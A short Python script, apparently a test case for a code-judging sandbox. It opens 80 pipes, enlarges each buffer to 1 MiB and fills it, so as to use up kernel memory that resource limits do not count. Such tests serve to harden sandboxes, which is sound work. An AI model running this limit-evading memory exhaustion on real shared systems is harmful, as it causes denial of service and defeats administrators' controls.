"""Fills pipes: what lies in them is the kernel's memory, and no limit counts it."""

# judge: memory

import contextlib
import fcntl
import os

SIZE = 1 << 20


def attack(ground):
    content = bytes(SIZE)
    for _ in range(80):
        _, writer = os.pipe()
        os.set_blocking(writer, False)
        with contextlib.suppress(OSError):  # if not, it has to do with what a pipe holds by itself
            fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, SIZE)
        os.write(writer, content)
